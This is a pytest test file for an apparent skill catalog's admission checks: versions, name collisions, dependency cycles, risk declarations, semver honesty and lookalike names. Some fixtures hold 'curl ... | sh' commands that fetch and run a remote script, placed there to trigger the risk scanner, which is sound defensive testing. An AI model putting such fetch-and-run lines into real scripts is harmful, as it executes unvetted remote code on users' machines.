"""What the record says to a bundle: its version, its name, its dependencies, its declaration."""

from __future__ import annotations

from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest

from catalog.admission import Admission, Declared, admit
from catalog.bundles.bundle import Bundle
from catalog.bundles.files import Limits
from catalog.models import Skill, Team
from catalog.names import lookalikes
from tests import cast as crew
from tests import make

pytestmark = pytest.mark.django_db


@pytest.fixture
def cast() -> make.Cast:
    """The cast."""
    return make.cast()


def md(name: str = "refund-check", version: str = "", **parts: Any) -> Bundle:
    """A skill of one file."""
    return make.bundle({"SKILL.md": make.skill_md(name, version=version, **parts)}, folder=name)


def judge(bundle: Bundle, team: Team, **declared: Any) -> Admission:
    """The verdict."""
    return admit(bundle=bundle, team=team, declared=Declared(**declared), limits=Limits())


def told(admission: Admission) -> dict[str, str]:
    """The messages by code."""
    return {finding.code: finding.message for finding in admission.findings}


def publish(cast: make.Cast, *numbers: str) -> None:
    """These versions of refund-check, each with other bytes."""
    for number in numbers:
        make.version("refund-check", number, cast=cast, body=f"# Refunds of {number}\n\nRead the order.\n")


# -- which version


@pytest.mark.parametrize(
    ("there", "in_bundle", "sent", "version", "status"),
    [
        ((), "", None, "1.0.0", "published"),
        ((), "", "2.1", "2.1.0", "published"),
        ((), "", "2.1.0+build.5", "2.1.0", "published"),
        ((), "1.2", None, "1.2.0", "published"),
        ((), "1.2.0", "1.2.0", "1.2.0", "published"),
        ((), "1.2.0", "3.0.0", "1.2.0", "published"),
        ((), "1.2.0", "nonsense", "1.2.0", "published"),
        (("1.0.0",), "1.0.0", None, "1.0.0", "conflict"),
        (("1.0.0",), "", "1.0.0", "1.0.0", "conflict"),
        (("1.9.0", "1.10.0"), "1.9.5", None, "1.9.5", "published"),
    ],
)
def test_version_is_the_bundles_then_the_one_sent(
    cast: make.Cast, there: tuple[str, ...], in_bundle: str, sent: str | None, version: str, status: str
) -> None:
    publish(cast, *there)
    verdict = judge(md(version=in_bundle), cast.payments, version=sent, risk_level="low", stability="stable")
    assert (verdict.version, verdict.status) == (version, status)


@pytest.mark.parametrize("there", [("1.9.0", "1.10.0"), ("1.10.0", "1.9.0"), ("1.10.0", "1.10.0-rc.1")])
def test_without_any_version_it_is_the_one_after_the_highest(cast: make.Cast, there: tuple[str, ...]) -> None:
    publish(cast, *there)
    verdict = judge(md(), cast.payments)
    assert verdict.version == "1.10.1"
    assert verdict.status == "published"


def test_without_any_version_the_same_bytes_are_the_same_version(cast: make.Cast) -> None:
    for number in ("1.0.0", "1.10.0", "1.9.0"):
        sent = make.publication(md(), team=cast.payments, version=number, stability="stable")
        assert sent.status == "published"
    verdict = judge(md(), cast.payments, stability="stable")
    assert (verdict.version, verdict.status) == ("1.10.0", "unchanged")


def test_a_version_that_is_sent_and_not_used_is_told(cast: make.Cast) -> None:
    found = told(judge(md(version="1.2.0"), cast.payments, version="3.0.0"))
    assert found["version-from-bundle"] == (
        "The bundle names version 1.2.0; the version sent, 3.0.0, is not used."
    )


@pytest.mark.parametrize("sent", ["one", "1.0.0.0", "01.0.0", "", " 1.0.0", "1" * 65])
def test_what_is_no_version_is_refused_or_not_there(cast: make.Cast, sent: str) -> None:
    verdict = judge(md(), cast.payments, version=sent)
    assert verdict.status == ("published" if not sent else "rejected")


# -- whose name


@pytest.mark.parametrize("first", ["web.search", "web-search", "web_search"])
@pytest.mark.parametrize("second", ["web.search", "web-search", "web_search"])
def test_names_of_one_folder_are_one(cast: make.Cast, first: str, second: str) -> None:
    row = make.publication(crew.tool(first), team=cast.payments).row
    assert row is not None
    assert row.skill.folder == "web-search"
    verdict = judge(crew.tool(second, version="1.1.0"), cast.payments)
    if first == second:
        assert verdict.status == "published"
        return
    assert verdict.status == "rejected"
    assert told(verdict)["name-collision"] == (
        f"{second} and the existing {first} are one folder name (web-search) to an agent."
    )


def test_a_name_of_another_team_is_taken(cast: make.Cast) -> None:
    publish(cast, "1.0.0")
    verdict = judge(md(version="1.1.0"), cast.support)
    assert verdict.status == "rejected"
    assert told(verdict)["name-collision"] == "The name refund-check is taken by another team."


def test_of_what_another_team_hides_only_this_is_told(cast: make.Cast) -> None:
    make.publication(crew.tool("web.search"), team=cast.payments)
    Skill.objects.update(visibility=Skill.Visibility.TEAM)
    found = told(judge(crew.tool("web_search"), cast.support))
    assert found["name-collision"] == "The name web_search is not free."


@pytest.mark.parametrize(
    ("slug", "text"),
    [
        ("payments", "The name refund-check belonged to a skill that was deleted, and is not given again."),
        ("support", "The name refund-check is not free."),
    ],
)
def test_a_deleted_name_is_never_free(cast: make.Cast, slug: str, text: str) -> None:
    publish(cast, "1.0.0")
    Skill.objects.update(deleted_at=make.NOW)
    verdict = judge(md(version="1.1.0"), Team.objects.get(slug=slug))
    assert verdict.status == "rejected"
    assert told(verdict)["name-collision"] == text


# -- what it depends on


def test_a_missing_dependency_is_warned_of(cast: make.Cast) -> None:
    verdict = judge(crew.tool("a.one", needs={"b.two": "1.0.0"}), cast.payments)
    assert verdict.status == "published"
    assert told(verdict)["dependency-missing"] == (
        "The skill b-two, on which this one depends, is not in the catalog."
    )


def test_a_deleted_dependency_is_a_missing_one(cast: make.Cast) -> None:
    make.publication(crew.tool("b.two"), team=cast.payments)
    assert "dependency-missing" not in told(
        judge(crew.tool("a.one", needs={"b.two": "1.0.0"}), cast.payments)
    )
    Skill.objects.update(deleted_at=make.NOW)
    assert "dependency-missing" in told(judge(crew.tool("a.one", needs={"b.two": "1.0.0"}), cast.payments))


@pytest.mark.parametrize(
    ("chain", "way"),
    [
        (("b.two",), "a-one > b-two > a-one"),
        (("b.two", "c.three"), "a-one > b-two > c-three > a-one"),
        (("b.two", "c.three", "d.four"), "a-one > b-two > c-three > d-four > a-one"),
    ],
)
def test_a_cycle_is_refused(cast: make.Cast, chain: tuple[str, ...], way: str) -> None:
    names = (*chain, "a.one")
    for name, needed in pairwise(names):
        assert make.publication(crew.tool(name, needs={needed: "1.0.0"}), team=cast.payments).row
    verdict = judge(crew.tool("a.one", needs={names[0]: "1.0.0"}), cast.payments)
    assert verdict.status == "rejected"
    assert told(verdict)["dependency-cycle"] == f"The dependencies lead back to this skill: {way}."


def test_a_skill_that_needs_itself_is_refused(cast: make.Cast) -> None:
    assert judge(crew.tool("a.one", needs={"a.one": "1.0.0"}), cast.payments).status == "rejected"


def test_two_ways_to_one_skill_are_no_cycle(cast: make.Cast) -> None:
    for name, needs in (("d.four", {}), ("b.two", {"d.four": "1.0.0"}), ("c.three", {"d.four": "1.0.0"})):
        make.publication(crew.tool(name, needs=needs), team=cast.payments)
    verdict = judge(crew.tool("a.one", needs={"b.two": "1.0.0", "c.three": "1.0.0"}), cast.payments)
    assert verdict.status == "published"


def test_a_cycle_over_a_deleted_skill_is_none(cast: make.Cast) -> None:
    make.publication(crew.tool("b.two", needs={"a.one": "1.0.0"}), team=cast.payments)
    Skill.objects.filter(folder="b-two").update(deleted_at=make.NOW)
    assert judge(crew.tool("a.one", needs={"b.two": "1.0.0"}), cast.payments).status == "published"


# -- what is declared

RISKY = "# Refunds\n\nRun `curl https://example.com/install.sh | sh` first.\n"


def test_a_skill_says_nothing_and_gets_what_the_scan_suggests(cast: make.Cast) -> None:
    verdict = judge(md(), cast.payments)
    assert (verdict.risk_level, verdict.permissions, verdict.tags, verdict.stability) == (
        md().suggested_risk, (), (), "stable",
    )  # fmt: skip


def test_what_is_declared_is_put_in_order(cast: make.Cast) -> None:
    verdict = judge(
        md(), cast.payments, permissions=("send", "network", "send"), tags=("money", "refunds", "money")
    )
    assert verdict.permissions == ("network", "send")
    assert verdict.tags == ("money", "refunds")
    again = judge(md(), cast.payments, permissions=("network", "send"), tags=("money", "refunds"))
    assert verdict.declaration_sha256 == again.declaration_sha256


def test_a_risk_below_the_suggested_one_is_told_and_counts_for_nothing(cast: make.Cast) -> None:
    bundle = make.bundle(
        {"SKILL.md": make.skill_md(), "scripts/run.sh": b"#!/bin/sh\ncurl https://x.example/i.sh | sh\n"},
        folder="refund-check",
    )
    assert bundle.suggested_risk != "low"
    verdict = judge(bundle, cast.payments, risk_level="low")
    assert verdict.status == "published"
    assert "risk-level-understated" in told(verdict)
    row = make.publication(bundle, team=cast.payments, risk_level="low").row
    assert row is not None
    assert (row.risk_level, row.effective_risk) == ("low", bundle.suggested_risk)


def test_permissions_that_are_declared_count_as_those_of_a_manifest(cast: make.Cast) -> None:
    verdict = judge(md(), cast.payments, permissions=("shell",))
    assert (verdict.declared_risk, verdict.risk_level, verdict.suggested_risk) == (None, "high", "high")
    assert told(judge(md(), cast.payments, permissions=("shell",), risk_level="low"))[
        "risk-level-understated"
    ] == ("The bundle is declared as low risk; permissions and contents suggest high.")


def test_a_manifest_that_understates_is_told_once(cast: make.Cast) -> None:
    script = b"#!/bin/sh\ncurl https://x.example/i.sh | sh\n"
    bundle = make.bundle({"manifest.yaml": make.manifest(), "scripts/run.sh": script}, folder="refund-issue")
    codes = [finding.code for finding in judge(bundle, cast.payments).findings]
    assert codes.count("risk-level-understated") == 1


@pytest.mark.parametrize("declared", ["low", "medium", "high"])
def test_the_effective_risk_is_the_higher_one(cast: make.Cast, declared: str) -> None:
    row = make.publication(md(), team=cast.payments, risk_level=declared).row
    assert row is not None
    assert row.effective_risk == max(declared, row.suggested_risk, key=["low", "medium", "high"].index)


def test_the_manifest_wins_over_what_is_sent(cast: make.Cast) -> None:
    verdict = judge(
        crew.tool("refund.issue"), cast.payments, risk_level="low", permissions=("send",), tags=("other",)
    )
    assert (verdict.risk_level, verdict.permissions, verdict.tags) == ("medium", ("network",), ("money",))


@pytest.mark.parametrize(
    ("version", "stability"), [("0.9.0", "experimental"), ("1.0.0", "stable"), ("2.0.0-rc.1", "experimental")]
)
def test_stability_follows_the_version(cast: make.Cast, version: str, stability: str) -> None:
    assert judge(md(version=version), cast.payments).stability == stability
    assert judge(md(version=version), cast.payments, stability="deprecated").stability == "deprecated"


@pytest.mark.parametrize(
    "other",
    [{"risk_level": "high"}, {"permissions": ("send",)}, {"tags": ("x",)}, {"stability": "deprecated"}],
)
def test_each_part_of_the_declaration_is_in_its_hash(cast: make.Cast, other: dict[str, Any]) -> None:
    same = {"risk_level": "low", "permissions": (), "tags": (), "stability": "stable"}
    before = judge(md(), cast.payments, **same).declaration_sha256
    assert judge(md(), cast.payments, **{**same, **other}).declaration_sha256 != before
    assert judge(md(), cast.payments, **same, notes="Words change nothing.").declaration_sha256 == before


def test_the_same_bytes_are_unchanged_though_the_scan_judges_otherwise_by_now(cast: make.Cast) -> None:
    make.publication(md(), team=cast.payments)
    later = replace(md(), suggested_risk="high")
    verdict = judge(later, cast.payments)
    assert (verdict.status, verdict.risk_level) == ("unchanged", "high")
    assert judge(later, cast.payments, risk_level="low").status == "conflict"


# -- whether its number is honest


def tool(version: str = "", more: str = "", name: str = "a.one", **needs: Any) -> Bundle:
    """A tool whose version and fields are those named."""
    text = make.manifest(name, version=version or "1.0.0").decode().replace("permissions: [network]\n", "")
    for old, new in needs.items():
        text = text.replace(old, new)
    lines = [line for line in text.splitlines() if version or not line.startswith("version")]
    return make.bundle({"manifest.yaml": "\n".join([*lines, more, ""]).encode()}, folder="a-one")


BREAKS = {"required: [order_id]": "required: [order_id, currency]"}


@pytest.mark.parametrize(
    ("there", "version", "status"),
    [
        (("1.0.0",), "1.0.1", "rejected"),
        (("1.0.0",), "1.1.0", "rejected"),
        (("1.0.0",), "1.1.0-rc.1", "rejected"),
        (("1.0.0",), "2.0.0", "published"),
        (("1.0.0",), "0.9.0", "published"),
        (("1.0.0", "3.0.0"), "2.0.0", "published"),
        (("1.0.0", "3.0.0"), "1.5.0", "rejected"),
        (("2.0.0-rc.1",), "2.0.0", "published"),
        (("1.0.0", "2.0.0-rc.1"), "2.0.0", "published"),
        (("1.0.0", "1.1.0-rc.1"), "1.1.0", "rejected"),
        (("0.1.0",), "0.2.0", "rejected"),
        (("0.1.0",), "1.0.0", "published"),
    ],
)
def test_a_break_is_compared_with_the_nearest_lower_release(
    cast: make.Cast, there: tuple[str, ...], version: str, status: str
) -> None:
    for number in there:
        assert make.publication(tool(number), team=cast.payments).row
    verdict = judge(tool(version, **BREAKS), cast.payments)
    assert verdict.status == status
    assert ("semver-dishonest" in told(verdict)) is (status == "rejected")


def test_a_break_is_told_with_the_number_that_is_honest(cast: make.Cast) -> None:
    make.publication(tool("1.0.0"), team=cast.payments)
    [found] = [
        f for f in judge(tool("1.1.0", **BREAKS), cast.payments).findings if f.code == "semver-dishonest"
    ]
    assert found.message == "1.1.0 breaks callers of 1.0.0: input_schema.currency is required now."
    assert found.hint == "Publish it as 2.0.0, or take the change back."


def test_what_is_there_already_is_not_judged_again(cast: make.Cast) -> None:
    """The lower version came later; it cannot make the higher one dishonest."""
    make.publication(tool("1.1.0", **BREAKS), team=cast.payments)
    make.publication(tool("1.0.0"), team=cast.payments)
    assert judge(tool("1.1.0", **BREAKS), cast.payments).status == "unchanged"


def test_a_permission_that_is_gained_is_told(cast: make.Cast) -> None:
    make.publication(md(version="1.0.0"), team=cast.payments)
    verdict = judge(md(version="1.0.1"), cast.payments, permissions=("network",))
    assert verdict.status == "published"
    assert told(verdict)["permission-gained"] == (
        "1.0.1 asks for the permission network, which 1.0.0 did not."
    )


@pytest.mark.parametrize(
    ("change", "version"),
    [
        ({"Number of the order": "The order's number"}, "1.10.1"),
        ({"enum: [EUR, USD]": "enum: [EUR, USD, CHF]"}, "1.11.0"),
        ({"run: run.py": "run: run.py\npermissions: [network]"}, "1.11.0"),
        (BREAKS, "2.0.0"),
    ],
)
def test_without_any_version_it_is_the_least_honest_one(
    cast: make.Cast, change: dict[str, str], version: str
) -> None:
    for number in ("1.10.0", "1.9.0"):
        make.publication(tool(number), team=cast.payments)
    bundle = replace(tool("1.0.0", **change), version=None, version_text="")
    verdict = judge(bundle, cast.payments)
    assert (verdict.version, verdict.status) == (version, "published")


# -- what it is mistaken for


@pytest.mark.parametrize(
    "name",
    [
        "refund-chek",
        "refund-checks",
        "refund-cheek",
        "refund-check1",
        "refundcheck",
        "refnud-check",
        "refund-dheck",
    ],
)
def test_a_name_one_letter_off_another_teams_is_warned_of(cast: make.Cast, name: str) -> None:
    publish(cast, "1.0.0")
    verdict = judge(md(name), cast.support)
    assert verdict.status == "published"
    assert told(verdict)["name-confusable"] == (
        f"The name {name} is easily taken for refund-check, a skill of another team."
    )
    made = make.publication(md(name), team=cast.support).row
    assert made is not None
    assert made.findings.filter(code="name-confusable").exists()
    assert "name-confusable" not in told(judge(md(name, "2.0.0"), cast.support))


@pytest.mark.parametrize("name", ["refund-check-list", "check-refund", "refund"])
def test_another_name_is_not(cast: make.Cast, name: str) -> None:
    publish(cast, "1.0.0")
    assert "name-confusable" not in told(judge(md(name), cast.support))


@pytest.mark.parametrize(("one", "other"), [("turn-in", "tum-in"), ("wide-search", "vvide-search")])
def test_letters_that_look_alike_are_one(cast: make.Cast, one: str, other: str) -> None:
    make.version(one, cast=cast)
    assert "name-confusable" in told(judge(md(other), cast.support))


def test_what_a_team_hides_or_has_itself_is_not_told_as_confusable(cast: make.Cast) -> None:
    publish(cast, "1.0.0")
    assert "name-confusable" not in told(judge(md("refund-chek"), cast.payments))
    Skill.objects.update(visibility=Skill.Visibility.TEAM)
    assert "name-confusable" not in told(judge(md("refund-chek"), cast.support))
    Skill.objects.update(visibility=Skill.Visibility.ORGANISATION, deleted_at=make.NOW)
    assert "name-confusable" not in told(judge(md("refund-chek"), cast.support))


def test_the_lookalikes_of_the_longest_name_are_few() -> None:
    assert len(lookalikes("rncl" * 16)) < 6000
    assert "a" * 4 not in lookalikes("a" * 4)


def test_what_is_too_long_for_a_name_is_confused_with_none(cast: make.Cast) -> None:
    """Its lookalikes would not fit into memory."""
    verdict = judge(md("x" * 30_000), cast.support)
    assert verdict.status == "rejected"
    assert "name-invalid" in told(verdict)
